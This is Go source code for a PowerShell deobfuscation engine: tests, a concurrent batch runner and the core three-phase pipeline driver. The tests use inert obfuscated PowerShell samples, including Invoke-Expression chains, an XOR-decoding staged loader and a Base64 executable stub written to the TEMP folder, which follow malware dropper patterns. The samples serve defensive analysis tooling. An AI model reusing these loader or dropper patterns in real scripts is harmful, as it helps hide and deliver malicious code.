	if !strings.Contains(res.Script, strings.Repeat("ab", 400)) {
		t.Errorf("chain not folded: %.80s...", res.Script)
	}
}

// TestBudgetExhaustionGraceful: with a tiny step budget, recovery is
// skipped but the engine still terminates with parseable output.
func TestBudgetExhaustionGraceful(t *testing.T) {
	d := New(Options{StepBudget: 10})
	res, err := d.Deobfuscate("IEX (('a'+'b')*3)")
	if err != nil {
		t.Fatal(err)
	}
	if perr := psParseErr(res.Script); perr != nil {
		t.Errorf("budget-limited output unparseable: %v", perr)
	}
}

// TestIterationCapTerminates: a script whose layers keep changing must
// stop at MaxIterations.
func TestIterationCapTerminates(t *testing.T) {
	d := New(Options{MaxIterations: 2})
	res, err := d.Deobfuscate("IEX ('IEX '+\"'IEX 'x''\")")
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.Iterations > 2 {
		t.Errorf("iterations = %d", res.Stats.Iterations)
	}
}

// TestSelfReferencingIEX must not loop forever: the payload re-invokes
// text equal to itself.
func TestSelfReferencingIEX(t *testing.T) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		d := New(Options{})
		_, _ = d.Deobfuscate(`$s = 'IEX $s'` + "\n" + `IEX $s`)
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("self-referencing IEX hung")
	}
}

// TestPathologicalRegexInput: -replace patterns from data must not
// blow up the engine.
func TestPathologicalRegexInput(t *testing.T) {
	d := New(Options{})
	res, err := d.Deobfuscate(`$x = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa' -replace '(a+)+$','b'`)
	if err != nil {
		t.Fatal(err)
	}
	if perr := psParseErr(res.Script); perr != nil {
		t.Error(perr)
	}
}

// TestCorpusNeverPanics: the engine runs over many generated samples
// without panicking, always producing parseable output.
func TestCorpusNeverPanics(t *testing.T) {
	if testing.Short() {
		t.Skip("long")
	}
	d := New(Options{})
	for _, s := range corpus.Generate(corpus.Config{Seed: 31337, N: 60}) {
		res, err := d.Deobfuscate(s.Source)
		if err != nil {
			t.Errorf("%s: %v", s.ID, err)
			continue
		}
		if perr := psParseErr(res.Script); perr != nil {
			t.Errorf("%s: output unparseable: %v", s.ID, perr)
		}
	}
}

// TestMutatedInputsNeverPanic mutates valid scripts into arbitrary
// byte soup; Deobfuscate must return (possibly an error) without
// panicking.
func TestMutatedInputsNeverPanic(t *testing.T) {
	base := "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA==')))"
	d := New(Options{})
	f := func(pos uint16, b byte) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("panic at pos=%d b=%d: %v", pos, b, r)
			}
		}()
		src := []byte(base)
		src[int(pos)%len(src)] = b
		_, _ = d.Deobfuscate(string(src))
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestStagedLoaderStaysIntact: the §V-C limitation — function-wrapped
// decoders are not folded, and the script is not corrupted.
func TestStagedLoaderStaysIntact(t *testing.T) {
	src := `function decode($s) { -join ($s -split ',' | ForEach-Object { [char]([int]$_ -bxor 7) }) }
$stage = decode('113,114,108,115,98,42,110,104,116,115,39,111,110')
Invoke-Expression $stage`
	d := New(Options{})
	res, err := d.Deobfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.ToLower(res.Script), "decode(") {
		t.Errorf("function call folded unexpectedly: %q", res.Script)
	}
}

// TestBinaryBase64Preserved: binary Base64 payloads must survive
// unmodified (paper §IV-C4).
func TestBinaryBase64Preserved(t *testing.T) {
	const blob = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQA=="
	src := "$bytes = [Convert]::FromBase64String('" + blob + "')\n[IO.File]::WriteAllBytes(\"$env:TEMP\\x.exe\", $bytes)"
	d := New(Options{})
	res, err := d.Deobfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Script, blob) {
		t.Errorf("binary blob mangled: %q", res.Script)
	}
}
