package core

import (
	"context"
	"runtime"
	"sync"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// BatchInput is one script submitted to DeobfuscateBatch.
type BatchInput struct {
	// Name labels the script in results (file path, sample ID, ...).
	Name string
	// Script is the source text.
	Script string
	// Lang selects the language frontend for this script, overriding
	// Options.Lang. Empty falls back to Options.Lang, then to per-script
	// auto-detection — a batch can mix languages freely.
	Lang string
}

// BatchResult is the outcome of one script in a batch run.
type BatchResult struct {
	// Name echoes the input's name.
	Name string
	// Index is the input's position; results are returned in input
	// order, so results[i].Index == i always holds.
	Index int
	// Result is the per-script outcome. Like DeobfuscateContext, it is
	// non-nil even for envelope violations that salvaged partial
	// progress (Stats.TimedOut set), and nil only when the run produced
	// nothing (invalid syntax, pre-start cancelation).
	Result *Result
	// Err is the per-script error, classifiable with errors.Is against
	// the taxonomy.
	Err error
}

// DeobfuscateBatch runs many scripts through the pipeline concurrently
// on a bounded worker pool (Options.Jobs workers; zero means
// GOMAXPROCS). Each script gets its own execution envelope — and, when
// Options.ScriptTimeout is set, its own deadline — so one pathological
// input times out alone instead of starving its siblings. All workers
// share one bounded parse cache: identical layers, wrappers and pieces
// across scripts (rampant in malware corpora, where one builder emits
// thousands of near-clones) tokenize and parse once.
//
// Results are returned in input order, one per input. Canceling ctx
// stops the pool promptly: scripts not yet started return ErrCanceled
// results.
func (d *Deobfuscator) DeobfuscateBatch(ctx context.Context, inputs []BatchInput) []BatchResult {
	// One parse cache and one evaluation cache for the whole batch.
	// Both are safe for concurrent use and bounded, so hostile inputs
	// cannot balloon them. Malware corpora are dominated by families
	// sharing obfuscated stagers verbatim: with the shared eval cache,
	// a pure piece interpreted for the first sample of a family is
	// replayed for every clone.
	cache := pipeline.NewCache(0, 0)
	var evalCache *pipeline.EvalCache
	if !d.opts.DisableEvalCache {
		evalCache = NewEvalCache(0, 0)
	}
	return d.DeobfuscateBatchShared(ctx, inputs, cache, evalCache)
}

// DeobfuscateBatchShared is DeobfuscateBatch over caller-owned caches,
// so a long-lived embedder (the HTTP server) can pool parse and
// evaluation work across many batch requests instead of starting each
// one cold. A nil cache gets a fresh batch-local one; a nil evalCache
// disables evaluation memoization for the batch (callers wanting the
// default behavior pass NewEvalCache(0, 0) unless
// Options.DisableEvalCache is set).
func (d *Deobfuscator) DeobfuscateBatchShared(ctx context.Context, inputs []BatchInput, cache *pipeline.Cache, evalCache *pipeline.EvalCache) []BatchResult {
	results := make([]BatchResult, len(inputs))
	if len(inputs) == 0 {
		return results
	}
	if cache == nil {
		cache = pipeline.NewCache(0, 0)
	}
	jobs := d.opts.Jobs
	if jobs <= 0 {
		jobs = runtime.GOMAXPROCS(0)
	}
	if jobs > len(inputs) {
		jobs = len(inputs)
	}
	// Clamp the per-script piece-worker pool so the batch never
	// oversubscribes: jobs × piece-workers stays within GOMAXPROCS.
	// Without this, the default (one piece worker per CPU, per script)
	// would put jobs×CPUs goroutines behind GOMAXPROCS slots, and the
	// context-switch churn erases both parallelism wins. Outputs do not
	// depend on the worker count, so clamping is invisible to results.
	run := d
	if jobs > 1 {
		pw := d.opts.PieceWorkers
		maxProcs := runtime.GOMAXPROCS(0)
		if pw <= 0 {
			pw = maxProcs
		}
		if jobs*pw > maxProcs {
			pw = maxProcs / jobs
			if pw < 1 {
				pw = 1
			}
		}
		if pw != d.opts.PieceWorkers {
			clamped := d.opts
			clamped.PieceWorkers = pw
			run = &Deobfuscator{opts: clamped}
		}
	}
	idx := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < jobs; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idx {
				in := inputs[i]
				sctx := ctx
				cancel := context.CancelFunc(func() {})
				if run.opts.ScriptTimeout > 0 {
					sctx, cancel = context.WithTimeout(ctx, run.opts.ScriptTimeout)
				}
				lang := in.Lang
				if lang == "" {
					lang = run.opts.Lang
				}
				res, err := run.deobfuscate(sctx, in.Script, lang, cache, evalCache)
				cancel()
				results[i] = BatchResult{Name: in.Name, Index: i, Result: res, Err: err}
			}
		}()
	}
feed:
	for i := range inputs {
		select {
		case idx <- i:
		case <-ctx.Done():
			// Mark everything not yet handed out; workers finish their
			// current script (their envelopes observe the cancelation).
			for j := i; j < len(inputs); j++ {
				results[j] = BatchResult{Name: inputs[j].Name, Index: j, Err: ErrCanceled}
			}
			break feed
		}
	}
	close(idx)
	wg.Wait()
	return results
}
