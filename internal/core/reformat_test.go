package core

import (
	"strings"
	"testing"
)

func TestReformatPreservesHereStrings(t *testing.T) {
	src := "if (1) {\n$x = @'\nline  one\n  indented\n'@\nwrite-host $x\n}"
	got := deob(t, src)
	if !strings.Contains(got, "line  one\n  indented") {
		t.Errorf("here-string body mutated:\n%s", got)
	}
}

func TestReformatBracesInStringsAndComments(t *testing.T) {
	// Braces inside strings and comments must not affect indentation.
	src := "if (1) {\nwrite-host '}{'\n# closing } brace in comment\nwrite-host done\n}"
	got := deob(t, src)
	if !strings.Contains(got, "    Write-Host '}{'") {
		t.Errorf("indent broken by string braces:\n%s", got)
	}
	if !strings.Contains(got, "    Write-Host done") {
		t.Errorf("indent broken by comment braces:\n%s", got)
	}
}

func TestReformatBlockComment(t *testing.T) {
	src := "<# multi\n   line   #>\nwrite-host   after"
	got := deob(t, src)
	if !strings.Contains(got, "multi\n   line") {
		t.Errorf("block comment interior mutated:\n%s", got)
	}
	if !strings.Contains(got, "Write-Host after") {
		t.Errorf("code after comment not normalized:\n%s", got)
	}
}
