//go:build race

package core

// envelopeSlack under the race detector: instrumentation slows every
// memory access ~5-10x, so the wall-clock contract is scaled rather
// than waived. The production bound (2x) is enforced by the non-race
// build of the same tests.
const envelopeSlack = 10
