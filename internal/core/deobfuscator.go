// Package core implements the Invoke-Deobfuscation engine: the paper's
// three-phase AST-based, semantics-preserving deobfuscator.
//
//  1. Token parsing (§III-A): lexical recovery of L1 obfuscation —
//     ticking, random case, aliases — rewriting tokens in reverse order.
//  2. Recovery based on AST (§III-B): recoverable nodes are evaluated
//     with the embedded interpreter under variable tracing (Algorithm 1),
//     results are spliced strictly in place, and multi-layer
//     Invoke-Expression / powershell -EncodedCommand wrappers are
//     unwrapped until a fixpoint.
//  3. Rename and reformat (§III-C): statistically random identifiers
//     become var{N}/func{N} and whitespace is normalized.
//
// The phases are composed as passes over a pipeline.Document: every
// phase — and every per-splice validOrRevert syntax check (§IV-A) —
// draws its token stream and AST from one bounded, content-keyed parse
// cache instead of re-parsing identical text, and each pass execution
// is traced (duration, bytes in/out, reverts, cache hits) into
// Result.PassTrace.
//
// Every phase re-validates syntax and reverts on regression, so the
// output is always parseable and semantically consistent with the
// input.
package core

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
)

// defaultMaxOutputBytes caps the total bytes produced across unwrapped
// layers per run (zip-bomb guard).
const defaultMaxOutputBytes = 64 << 20

// Options configures the deobfuscator. The zero value enables every
// phase with the paper's defaults.
type Options struct {
	// MaxIterations bounds the multi-layer fixpoint loop. Zero means 10.
	MaxIterations int
	// StepBudget bounds interpreter work per recoverable piece. Zero
	// means 500k steps.
	StepBudget int
	// MaxPieceLen skips recoverable pieces larger than this many bytes.
	// Zero means 1 MiB.
	MaxPieceLen int
	// Blocklist overrides the default irrelevant-command blocklist.
	Blocklist map[string]bool
	// DisableTokenPhase turns off phase 1 (ablation).
	DisableTokenPhase bool
	// DisableASTPhase turns off phase 2 (ablation).
	DisableASTPhase bool
	// DisableVariableTracing turns off the symbol table, reducing the
	// engine to context-free direct execution (ablation; emulates the
	// weakness the paper identifies in prior work).
	DisableVariableTracing bool
	// DisableRename turns off phase 3 renaming.
	DisableRename bool
	// DisableReformat turns off phase 3 reformatting.
	DisableReformat bool
	// FunctionTracing enables the extension the paper leaves as future
	// work (§V-C "Complex Obfuscation"): recovery through user-defined
	// decoder functions. A function qualifies when its body is pure —
	// only safe commands and no free variables beyond its parameters —
	// in which case calls to it become recoverable pieces with the
	// definition in scope. Off by default to match the paper's tool.
	FunctionTracing bool
	// MaxAllocBytes bounds the memory a single recoverable piece may
	// allocate in the embedded interpreter. Zero means the interpreter
	// default (64 MiB).
	MaxAllocBytes int64
	// MaxOutputBytes bounds the total bytes produced across all
	// unwrapped layers in one run (zip-bomb guard). Zero means 64 MiB.
	MaxOutputBytes int
	// DisableEvalCache turns off evaluation memoization: every
	// recoverable piece is interpreted from scratch even when an
	// identical (text, visible-bindings) pair was already evaluated in a
	// previous fixpoint iteration, a nested layer, or another script of
	// a batch. The cache is semantically gated (only pure, deterministic
	// runs are memoized), so disabling it changes performance only;
	// outputs are byte-identical either way.
	DisableEvalCache bool
	// Jobs bounds DeobfuscateBatch worker-pool concurrency. Zero means
	// GOMAXPROCS.
	Jobs int
	// ScriptTimeout, when positive, gives each script in a
	// DeobfuscateBatch run its own wall-clock deadline (derived from the
	// batch context), so one pathological script cannot starve its
	// siblings. Zero means only the batch context's deadline applies.
	ScriptTimeout time.Duration
}

// Stats counts the work performed during one deobfuscation.
type Stats struct {
	// TokensNormalized is the number of tokens rewritten by phase 1.
	TokensNormalized int
	// PiecesAttempted is the number of recoverable pieces evaluated.
	PiecesAttempted int
	// PiecesRecovered is the number of pieces replaced with literals.
	PiecesRecovered int
	// VariablesTraced is the number of variable values recorded.
	VariablesTraced int
	// VariablesInlined is the number of variable reads replaced.
	VariablesInlined int
	// LayersUnwrapped counts Invoke-Expression / -EncodedCommand layers
	// removed.
	LayersUnwrapped int
	// IdentifiersRenamed counts renamed variables and functions.
	IdentifiersRenamed int
	// Iterations is the number of fixpoint rounds executed.
	Iterations int
	// Duration is wall-clock deobfuscation time.
	Duration time.Duration
	// PiecesTimedOut counts pieces whose evaluation was cut off by the
	// context deadline or cancelation.
	PiecesTimedOut int
	// PiecesPanicked counts pieces whose evaluation hit an internal
	// panic that was converted to an error at an isolation barrier.
	PiecesPanicked int
	// PiecesOverBudget counts pieces whose evaluation exhausted the
	// interpreter memory budget.
	PiecesOverBudget int
	// TimedOut reports that the run as a whole was interrupted by the
	// envelope (deadline, cancelation or output budget) and Result holds
	// partial progress.
	TimedOut bool
	// EvalCacheHits counts piece evaluations answered from the
	// evaluation cache (interpreter runs skipped entirely).
	EvalCacheHits int64
	// EvalCacheMisses counts piece evaluations that ran the interpreter
	// and whose pure result was inserted into the cache.
	EvalCacheMisses int64
	// EvalCacheSkips counts piece evaluations that ran but were not
	// cacheable (impure, failed, or holding uncopyable values).
	EvalCacheSkips int64
}

// Result is the outcome of a deobfuscation run.
type Result struct {
	// Script is the final deobfuscated script.
	Script string
	// Layers holds the script after each fixpoint iteration, innermost
	// last (useful for analysts, mirrors PSDecode's layer output).
	Layers []string
	// Stats describes the work performed.
	Stats Stats
	// PassTrace is the per-pass execution trace: one entry per pass in
	// first-run order, aggregated across fixpoint iterations (duration,
	// bytes in/out, reverts, parse-cache hits/misses).
	PassTrace []pipeline.PassStat
}

// Deobfuscator runs the three-phase pipeline.
type Deobfuscator struct {
	opts      Options
	blocklist map[string]bool
}

// New returns a Deobfuscator with the given options.
func New(opts Options) *Deobfuscator {
	if opts.MaxIterations == 0 {
		opts.MaxIterations = 10
	}
	if opts.StepBudget == 0 {
		opts.StepBudget = 500_000
	}
	if opts.MaxPieceLen == 0 {
		opts.MaxPieceLen = 1 << 20
	}
	bl := opts.Blocklist
	if bl == nil {
		bl = psnames.DefaultBlocklist()
	}
	return &Deobfuscator{opts: opts, blocklist: bl}
}

// ErrInvalidSyntax reports that the input script does not parse.
var ErrInvalidSyntax = errors.New("core: input has invalid syntax")

// run carries the per-run state every pass shares: the owning
// Deobfuscator's options, the stats being accumulated, and the
// execution envelope. Documents and the parse cache travel separately
// (on the PassContext) so nested payload layers can fork Documents
// while drawing from the same cache.
type run struct {
	d     *Deobfuscator
	stats *Stats
	env   *envelope
}

// The four phases as registered passes. Each is a thin adapter from
// the pipeline.Pass interface onto the phase implementation; nested
// payload layers reuse the phase implementations directly on forked
// Documents (their work is attributed to the enclosing ast pass).
type (
	tokenPass    struct{ r *run }
	astPass      struct{ r *run }
	renamePass   struct{ r *run }
	reformatPass struct{ r *run }
)

func (p *tokenPass) Name() string { return "token" }
func (p *tokenPass) Run(pc *pipeline.PassContext) error {
	p.r.tokenPhase(pc, pc.Doc)
	return nil
}

func (p *astPass) Name() string { return "ast" }
func (p *astPass) Run(pc *pipeline.PassContext) error {
	p.r.astPhase(pc, pc.Doc, 0)
	return nil
}

func (p *renamePass) Name() string { return "rename" }
func (p *renamePass) Run(pc *pipeline.PassContext) error {
	p.r.renamePhase(pc, pc.Doc)
	return nil
}

func (p *reformatPass) Name() string { return "reformat" }
func (p *reformatPass) Run(pc *pipeline.PassContext) error {
	p.r.reformatPhase(pc, pc.Doc)
	return nil
}

// layerPasses returns the passes of the fixpoint loop (phases 1–2) in
// order, honoring the ablation switches.
func (d *Deobfuscator) layerPasses(r *run) []pipeline.Pass {
	var passes []pipeline.Pass
	if !d.opts.DisableTokenPhase {
		passes = append(passes, &tokenPass{r})
	}
	if !d.opts.DisableASTPhase {
		passes = append(passes, &astPass{r})
	}
	return passes
}

// finalPasses returns the once-only finishing passes (phase 3).
func (d *Deobfuscator) finalPasses(r *run) []pipeline.Pass {
	var passes []pipeline.Pass
	if !d.opts.DisableRename {
		passes = append(passes, &renamePass{r})
	}
	if !d.opts.DisableReformat {
		passes = append(passes, &reformatPass{r})
	}
	return passes
}

// Deobfuscate runs the full pipeline on a script with no deadline. It
// is a thin wrapper over DeobfuscateContext.
func (d *Deobfuscator) Deobfuscate(src string) (*Result, error) {
	return d.DeobfuscateContext(context.Background(), src)
}

// DeobfuscateContext runs the full pipeline on a script under the
// execution envelope derived from ctx and the options: deadline /
// cancelation checks between phases and inside every interpreter run,
// per-piece memory budgets, and a total output cap across unwrapped
// layers. When the envelope is violated mid-run it returns the partial
// result (with Stats.TimedOut set) together with the taxonomy error —
// both return values are non-nil in that case.
func (d *Deobfuscator) DeobfuscateContext(ctx context.Context, src string) (*Result, error) {
	return d.deobfuscate(ctx, src, nil, nil)
}

// NewEvalCache returns an evaluation cache wired with the interpreter's
// deep-copier and size estimator, suitable for sharing across the runs
// of a batch. Non-positive bounds select the pipeline defaults.
func NewEvalCache(maxEntries int, maxBytes int64) *pipeline.EvalCache {
	return pipeline.NewEvalCache(maxEntries, maxBytes, psinterp.CopyValue, psinterp.ValueSize)
}

// DeobfuscateShared is DeobfuscateContext drawing from caller-owned
// caches instead of per-run ones, for long-lived embedders (the HTTP
// server) that amortize parse and evaluation work across request
// boundaries the way DeobfuscateBatch amortizes across a batch. Both
// caches are bounded and safe for concurrent runs; a nil cache gets a
// fresh per-run one (and a nil evalCache follows Options.DisableEvalCache,
// exactly like DeobfuscateContext).
func (d *Deobfuscator) DeobfuscateShared(ctx context.Context, src string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (*Result, error) {
	return d.deobfuscate(ctx, src, cache, evalCache)
}

// deobfuscate is the pipeline driver behind DeobfuscateContext and
// DeobfuscateBatch. A nil cache gets a fresh per-run cache; batch runs
// pass a shared one so identical layers across scripts parse once. The
// same applies to evalCache: nil gets a fresh per-run evaluation cache
// (unless Options.DisableEvalCache), batch runs share one so identical
// pure pieces across scripts are interpreted once.
func (d *Deobfuscator) deobfuscate(ctx context.Context, src string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (res *Result, err error) {
	defer limits.Recover("core.Deobfuscate", &err)
	start := time.Now()
	res = &Result{}
	env := newEnvelope(ctx, d.opts.MaxOutputBytes)
	if cerr := env.check(); cerr != nil {
		return nil, cerr
	}
	if cache == nil {
		cache = pipeline.NewCache(0, 0)
	}
	if evalCache == nil && !d.opts.DisableEvalCache {
		evalCache = NewEvalCache(0, 0)
	}
	doc := pipeline.NewDocument(src, cache.View())
	pc := &pipeline.PassContext{Doc: doc, Eval: evalCache.View()}
	runner := pipeline.NewRunner(nil)
	r := &run{d: d, stats: &res.Stats, env: env}
	// Up-front validity check. The parse lands in the cache, so the
	// first ast-pass iteration (and the final safety net, if the script
	// never changes) reuses it instead of re-parsing.
	if _, perr := doc.AST(); perr != nil {
		// Wrap both sentinels so errors.Is sees ErrInvalidSyntax and,
		// for nesting-limit rejections, ErrParseDepth.
		return nil, fmt.Errorf("%w: %w", ErrInvalidSyntax, perr)
	}
	layers := d.layerPasses(r)
	for iter := 0; iter < d.opts.MaxIterations; iter++ {
		if env.violated() {
			break
		}
		res.Stats.Iterations = iter + 1
		prev := doc.Text()
		for _, p := range layers {
			if rerr := runner.Run(p, pc); rerr != nil {
				break
			}
		}
		next := doc.Text()
		if next == prev {
			break
		}
		// Charge only the per-iteration growth: re-charging the full
		// layer every round would bill a large-but-legitimate script
		// MaxIterations times over. Bomb chains that genuinely expand
		// are billed in full where they unwrap (deobPayload).
		if env.chargeOutput(len(next)-len(prev)) != nil {
			doc.SetText(prev)
			break
		}
		res.Layers = append(res.Layers, next)
	}
	if !env.violated() {
		for _, p := range d.finalPasses(r) {
			if rerr := runner.Run(p, pc); rerr != nil {
				break
			}
		}
	}
	cur := doc.Text()
	// Final safety net: never emit something unparseable. Drawn from
	// the cache — when no pass changed the text this is the up-front
	// parse again, for free.
	if !doc.Valid() {
		if len(res.Layers) > 0 {
			cur = res.Layers[len(res.Layers)-1]
		} else {
			cur = src
		}
	}
	res.Script = cur
	res.PassTrace = runner.Trace().Stats()
	if pc.Eval != nil {
		res.Stats.EvalCacheHits = pc.Eval.Hits
		res.Stats.EvalCacheMisses = pc.Eval.Misses
		res.Stats.EvalCacheSkips = pc.Eval.Skips
	}
	res.Stats.Duration = time.Since(start)
	if envErr := env.check(); envErr != nil {
		res.Stats.TimedOut = true
		return res, envErr
	}
	return res, nil
}

// validOrRevert returns candidate when it parses, fallback otherwise
// (the paper's per-step syntax check, §IV-A). The validity parse goes
// through the run's cache — a candidate checked here and then kept is
// never re-parsed by the next pass — and reverts are counted into the
// pass trace.
func (r *run) validOrRevert(pc *pipeline.PassContext, view *pipeline.View, candidate, fallback string) string {
	if strings.TrimSpace(candidate) == "" {
		pc.Reverts++
		return fallback
	}
	if !view.Valid(candidate) {
		pc.Reverts++
		return fallback
	}
	return candidate
}
