// Package core implements the Invoke-Deobfuscation engine driver: the
// paper's three-phase AST-based, semantics-preserving deobfuscation
// pipeline, generalized over pluggable language frontends.
//
//  1. Token parsing (§III-A): lexical recovery of L1 obfuscation.
//  2. Recovery based on AST (§III-B): recoverable nodes are evaluated
//     under variable tracing (Algorithm 1), results are spliced strictly
//     in place, and multi-layer wrappers are unwrapped until a fixpoint.
//  3. Rename and reformat (§III-C): statistically random identifiers
//     become var{N}/func{N} and whitespace is normalized.
//
// The driver is language-neutral: it resolves a frontend.Frontend from
// the registry — by Options.Lang, or per script by auto-detection — and
// runs the passes that frontend supplies over a pipeline.Document.
// Every phase, and every per-splice validOrRevert syntax check (§IV-A),
// draws its artifacts from one bounded, content-keyed parse cache
// namespaced by language, and each pass execution is traced into
// Result.PassTrace.
//
// Importing this package alone registers no languages; callers import
// internal/frontends (or a specific frontend package) for that. The
// facade package does so for every embedder going through it.
//
// Every phase re-validates syntax and reverts on regression, so the
// output is always parseable and semantically consistent with the
// input.
package core

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// Options configures the deobfuscator. The zero value enables every
// phase with the paper's defaults. It is an alias of frontend.Options,
// the one option surface shared by the driver and the frontends.
type Options = frontend.Options

// Stats counts the work performed during one deobfuscation (an alias
// of frontend.Stats).
type Stats = frontend.Stats

// Result is the outcome of a deobfuscation run.
type Result struct {
	// Script is the final deobfuscated script.
	Script string
	// Lang is the canonical name of the language frontend that handled
	// the run (explicit Options.Lang or the auto-detected guess).
	Lang string
	// Layers holds the script after each fixpoint iteration, innermost
	// last (useful for analysts, mirrors PSDecode's layer output).
	Layers []string
	// Stats describes the work performed.
	Stats Stats
	// PassTrace is the per-pass execution trace: one entry per pass in
	// first-run order, aggregated across fixpoint iterations (duration,
	// bytes in/out, reverts, parse-cache hits/misses).
	PassTrace []pipeline.PassStat
}

// Deobfuscator runs the three-phase pipeline.
type Deobfuscator struct {
	opts Options
}

// New returns a Deobfuscator with the given options.
func New(opts Options) *Deobfuscator {
	if opts.MaxIterations == 0 {
		opts.MaxIterations = 10
	}
	if opts.StepBudget == 0 {
		opts.StepBudget = 500_000
	}
	if opts.MaxPieceLen == 0 {
		opts.MaxPieceLen = 1 << 20
	}
	return &Deobfuscator{opts: opts}
}

// ErrInvalidSyntax reports that the input script does not parse.
var ErrInvalidSyntax = errors.New("core: input has invalid syntax")

// ErrBadLang reports an unknown Options.Lang / BatchInput.Lang,
// re-exported from the shared limits package.
var ErrBadLang = limits.ErrBadLang

// Deobfuscate runs the full pipeline on a script with no deadline. It
// is a thin wrapper over DeobfuscateContext.
func (d *Deobfuscator) Deobfuscate(src string) (*Result, error) {
	return d.DeobfuscateContext(context.Background(), src)
}

// DeobfuscateContext runs the full pipeline on a script under the
// execution envelope derived from ctx and the options: deadline /
// cancelation checks between phases and inside every interpreter run,
// per-piece memory budgets, and a total output cap across unwrapped
// layers. When the envelope is violated mid-run it returns the partial
// result (with Stats.TimedOut set) together with the taxonomy error —
// both return values are non-nil in that case.
func (d *Deobfuscator) DeobfuscateContext(ctx context.Context, src string) (*Result, error) {
	return d.deobfuscate(ctx, src, d.opts.Lang, nil, nil)
}

// NewEvalCache returns an evaluation cache suitable for sharing across
// the runs of a batch (or across languages: entries are namespaced by
// frontend, which also supplies the value copier and size estimator
// per run). Non-positive bounds select the pipeline defaults.
func NewEvalCache(maxEntries int, maxBytes int64) *pipeline.EvalCache {
	return pipeline.NewEvalCache(maxEntries, maxBytes)
}

// DeobfuscateShared is DeobfuscateContext drawing from caller-owned
// caches instead of per-run ones, for long-lived embedders (the HTTP
// server) that amortize parse and evaluation work across request
// boundaries the way DeobfuscateBatch amortizes across a batch. Both
// caches are bounded and safe for concurrent runs; a nil cache gets a
// fresh per-run one (and a nil evalCache follows Options.DisableEvalCache,
// exactly like DeobfuscateContext).
func (d *Deobfuscator) DeobfuscateShared(ctx context.Context, src string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (*Result, error) {
	return d.deobfuscate(ctx, src, d.opts.Lang, cache, evalCache)
}

// DeobfuscateSharedLang is DeobfuscateShared with a per-call language
// override, mirroring BatchInput.Lang: an empty lang falls back to
// Options.Lang, and an empty result of that falls back to per-script
// auto-detection. Serving frontends use it to honor a request-level
// language field without building one engine per language.
func (d *Deobfuscator) DeobfuscateSharedLang(ctx context.Context, src, lang string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (*Result, error) {
	if lang == "" {
		lang = d.opts.Lang
	}
	return d.deobfuscate(ctx, src, lang, cache, evalCache)
}

// resolveFrontend maps an explicit language name (or, when empty, the
// auto-detection guess for src) to a registered frontend.
func resolveFrontend(lang, src string) (frontend.Frontend, error) {
	if lang != "" {
		return frontend.Get(lang)
	}
	return frontend.DetectFrontend(src)
}

// deobfuscate is the pipeline driver behind DeobfuscateContext and
// DeobfuscateBatch. A nil cache gets a fresh per-run cache; batch runs
// pass a shared one so identical layers across scripts parse once. The
// same applies to evalCache: nil gets a fresh per-run evaluation cache
// (unless Options.DisableEvalCache), batch runs share one so identical
// pure pieces across scripts are interpreted once.
func (d *Deobfuscator) deobfuscate(ctx context.Context, src, lang string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (res *Result, err error) {
	defer limits.Recover("core.Deobfuscate", &err)
	start := time.Now()
	fe, err := resolveFrontend(lang, src)
	if err != nil {
		return nil, err
	}
	res = &Result{Lang: fe.Name()}
	env := frontend.NewEnvelope(ctx, d.opts.MaxOutputBytes)
	if cerr := env.Check(); cerr != nil {
		return nil, cerr
	}
	if cache == nil {
		cache = pipeline.NewCache(0, 0)
	}
	if evalCache == nil && !d.opts.DisableEvalCache {
		evalCache = NewEvalCache(0, 0)
	}
	doc := pipeline.NewDocument(src, cache.View(fe))
	pc := &pipeline.PassContext{Doc: doc, Eval: evalCache.View(fe)}
	runner := pipeline.NewRunner(nil)
	bl := d.opts.Blocklist
	if bl == nil {
		bl = fe.DefaultBlocklist()
	}
	r := &frontend.Run{Opts: &d.opts, Blocklist: bl, Stats: &res.Stats, Env: env}
	// Up-front validity check. The parse lands in the cache, so the
	// first ast-pass iteration (and the final safety net, if the script
	// never changes) reuses it instead of re-parsing.
	if _, perr := doc.AST(); perr != nil {
		// Wrap both sentinels so errors.Is sees ErrInvalidSyntax and,
		// for nesting-limit rejections, ErrParseDepth.
		return nil, fmt.Errorf("%w: %w", ErrInvalidSyntax, perr)
	}
	layers := fe.LayerPasses(r)
	for iter := 0; iter < d.opts.MaxIterations; iter++ {
		if env.Violated() {
			break
		}
		res.Stats.Iterations = iter + 1
		prev := doc.Text()
		for _, p := range layers {
			if rerr := runner.Run(p, pc); rerr != nil {
				break
			}
		}
		next := doc.Text()
		if next == prev {
			break
		}
		// Charge only the per-iteration growth: re-charging the full
		// layer every round would bill a large-but-legitimate script
		// MaxIterations times over. Bomb chains that genuinely expand
		// are billed in full where they unwrap (the frontend's payload
		// unwrapping).
		if env.ChargeOutput(len(next)-len(prev)) != nil {
			doc.SetText(prev)
			break
		}
		res.Layers = append(res.Layers, next)
	}
	if !env.Violated() {
		for _, p := range fe.FinalPasses(r) {
			if rerr := runner.Run(p, pc); rerr != nil {
				break
			}
